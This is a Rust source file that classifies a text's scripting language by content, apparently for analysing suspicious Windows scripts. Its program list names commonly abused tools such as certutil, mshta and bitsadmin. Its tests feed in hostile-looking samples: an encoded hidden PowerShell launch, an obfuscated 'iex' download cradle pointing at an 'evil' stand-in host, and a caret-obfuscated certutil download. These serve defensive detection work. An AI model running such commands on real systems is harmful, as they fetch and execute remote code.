//! Which language a text is written in, by its content.

use crate::model::Language;

/// Programs whose name at the start makes a text a command line.
const PROGRAMS: &[&str] = &[
    "powershell",
    "pwsh",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "regsvr32",
    "rundll32",
    "wmic",
    "schtasks",
    "certutil",
    "bitsadmin",
    "msiexec",
    "net",
    "netsh",
    "reg",
    "sc",
    "taskkill",
    "msbuild",
    "installutil",
    "forfiles",
    "at",
];

/// So much of the beginning and of the end is looked at.
const LOOK: usize = 16 << 10;

/// Guesses the language. Cheap: looks at the beginning and the end only.
#[cfg(test)]
fn guess(text: &str) -> Language {
    guesses(text).0
}

/// The language, and what it may be otherwise.
pub(crate) fn guesses(text: &str) -> (Language, Option<Language>) {
    let head = text.get(..text.floor_char_boundary(LOOK)).unwrap_or(text);
    let trimmed = head.trim_start_matches('\u{feff}').trim_start();
    if trimmed.is_empty() {
        return (Language::Unknown, None);
    }
    if is_binary(head) {
        return (Language::Binary, None);
    }
    if trimmed.starts_with("#@~^") {
        return (Language::VbScript, None);
    }
    let mut lower = trimmed.to_ascii_lowercase();
    if lower.starts_with('<')
        && has(
            &lower,
            &[
                "<script",
                "<hta:",
                "<scriptlet",
                "<html",
                "<package",
                "<job",
                "<component",
                " onerror=",
                " onload=",
                "javascript:",
                "vbscript:",
            ],
        )
    {
        return (Language::Html, None);
    }
    // What begins with a long text says at its end what it does with it.
    let tail = text.get(text.ceil_char_boundary(text.len().saturating_sub(LOOK).max(head.len()))..);
    if let Some(tail) = tail.filter(|tail| !tail.is_empty()) {
        lower.push('\n');
        lower.push_str(&tail.to_ascii_lowercase());
    }
    let line_count = lower.lines().filter(|line| !line.trim().is_empty()).take(3).count();
    if line_count == 1 && starts_program(&lower) {
        return (Language::CommandLine, None);
    }
    by_words(&lower, line_count)
}

fn by_words(lower: &str, lines: usize) -> (Language, Option<Language>) {
    let count = |words: &[&str]| words.iter().filter(|word| lower.contains(**word)).count();
    let batch = count(&[
        "@echo off",
        "%~",
        "goto ",
        "setlocal",
        "if exist ",
        "if not exist ",
        "\nset ",
        ">nul",
        "&&",
        "%errorlevel%",
        "rem ",
    ]) + usize::from(lower.starts_with("@echo")) * 3
        + usize::from(lower.starts_with("set ")) * 2
        + usize::from(lines == 1 && carets(lower) >= 3) * 4;
    let powershell = count(&[
        "$_",
        "new-object",
        "write-host",
        "get-",
        "set-",
        "invoke-",
        "-join",
        "-split",
        "-bxor",
        "iex",
        "param(",
        "$env:",
        "[char]",
        "[convert]",
        "[system.",
        "-eq ",
        "foreach(",
        "add-",
        "`",
        "-f'",
        "-f '",
        "import-module",
    ]) + dollars(lower);
    // The scripting host speaks both.
    let both = count(&["createobject(", "wscript."]);
    let vbscript = count(&[
        "dim ",
        "set ",
        "end sub",
        "end function",
        "end if",
        "chr(",
        "chr (",
        "on error resume next",
        "strreverse(",
        "msgbox",
        "\" & ",
        "execute",
        "loop",
        "then",
    ]) + both;
    let jscript = count(&[
        "var ",
        "function(",
        "function ",
        "activexobject",
        "fromcharcode",
        "eval(",
        "};",
        "unescape(",
        "try{",
        "===",
    ]) + both;
    let mut scores = [
        (powershell, Language::PowerShell),
        (jscript, Language::JScript),
        (vbscript, Language::VbScript),
        (batch, Language::Batch),
    ];
    if jscript == vbscript && !ends_statements(lower) {
        scores.swap(1, 2);
    }
    // Stable: of equals the first stays first.
    scores.sort_by_key(|&(score, _)| std::cmp::Reverse(score));
    let [(best, language), (next, second), ..] = scores;
    let second = (next > 0).then_some(second);
    if best == 0 {
        let line = lines == 1 && lower.contains(".exe");
        return (if line { Language::CommandLine } else { Language::Unknown }, None);
    }
    if lines == 1 && best <= 1 && first_word(lower).contains(".exe") {
        (Language::CommandLine, Some(language))
    } else {
        (language, second)
    }
}

/// Carets inside words, which `cmd` takes out.
fn carets(lower: &str) -> usize {
    let inside =
        |part: &[u8]| part[0].is_ascii_alphabetic() && part[1] == b'^' && part[2].is_ascii_alphabetic();
    lower.as_bytes().windows(3).filter(|part| inside(part)).take(4).count()
}

/// Whether statements end as those of `JScript` do; what stands between quotes does not count.
fn ends_statements(lower: &str) -> bool {
    lower.split('"').step_by(2).any(|outside| outside.contains([';', '{']))
}

/// The first word, with quotes round it dropped.
fn first_word(lower: &str) -> &str {
    let word = match lower.strip_prefix('"') {
        Some(rest) => rest.split('"').next().unwrap_or(rest),
        None => lower.split_whitespace().next().unwrap_or(lower),
    };
    word.trim_matches(['"', '\\', '\''])
}

/// Variables in the PowerShell manner: a dollar sign before a letter.
fn dollars(lower: &str) -> usize {
    lower
        .as_bytes()
        .windows(2)
        .filter(|pair| {
            pair[0] == b'$' && (pair[1].is_ascii_alphabetic() || pair[1] == b'{' || pair[1] == b'(')
        })
        .take(4)
        .count()
}

fn has(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}

/// Whether the first word, without quotes, folder and extension, is a known program.
fn starts_program(lower: &str) -> bool {
    if lower.starts_with("%comspec%") || lower.starts_with("\"%comspec%") {
        return true;
    }
    let word = first_word(lower);
    let name = word.rsplit(['\\', '/']).next().unwrap_or(word);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    PROGRAMS.contains(&name) || lower.starts_with("/c ")
}

fn is_binary(head: &str) -> bool {
    let controls = head.bytes().take(2048).filter(|b| *b < 9 || (14..32).contains(b)).count();
    controls * 20 > head.len().clamp(20, 2048)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn languages_by_content() {
        let cases = [
            ("powershell -nop -w hidden -e AAAA", Language::CommandLine),
            ("\"C:\\Windows\\System32\\cmd.exe\" /c echo 1", Language::CommandLine),
            ("$a = New-Object Net.WebClient", Language::PowerShell),
            ("(New-Object Net.WebClient).DownloadString('x')", Language::PowerShell),
            ("@echo off\r\nset a=1\r\ngoto x", Language::Batch),
            ("Dim a\r\nSet a = CreateObject(\"WScript.Shell\")", Language::VbScript),
            ("var a = new ActiveXObject('WScript.Shell'); a.Run('x');", Language::JScript),
            ("<html><script language=\"VBScript\">", Language::Html),
            ("\u{1}\u{2}\u{3}MZ\u{0}\u{0}\u{0}", Language::Binary),
            ("iex ('http://ev'+'il.example.com/a.exe')", Language::PowerShell),
            ("Invoke-Item C:\\Temp\\a.exe", Language::PowerShell),
            ("C:\\Temp\\a.exe -f add-on", Language::CommandLine),
            ("Eval(Chr(65) & Chr(66))", Language::VbScript),
            ("Execute(Unescape(\"%43%3b\"))", Language::VbScript),
            ("eval(unescape(\"%43\"));", Language::JScript),
            ("var o = WScript.CreateObject('WScript.Shell'); o.Run('x');", Language::JScript),
            ("CreateObject(\"WScript.Shell\").Run \"a;b\", 0", Language::VbScript),
            ("#@~^EAAAAA==CslX0WMNC", Language::VbScript),
            ("c^ert^ut^il -urlcache -split -f http://a.example.com/a.exe", Language::Batch),
            ("<img src=x onerror='eval(1)'>", Language::Html),
            ("hello", Language::Unknown),
            ("", Language::Unknown),
        ];
        for (text, language) in cases {
            assert_eq!(guess(text), language, "{text}");
        }
        // What is done with a long text stands behind it.
        let long = "41".repeat(20_000);
        let vb = format!(
            "s = \"{long}\"\r\nFor i = 1 To Len(s)\r\nr = r & Chr(Mid(s, i, 2))\r\nNext\r\nExecute r"
        );
        assert_eq!(guess(&vb), Language::VbScript);
        let js = format!("s='{long}';for(i=0;i<s.length;i+=2)r+=String.fromCharCode(s[i]);eval(r);");
        assert_eq!(guess(&js), Language::JScript);
    }
}
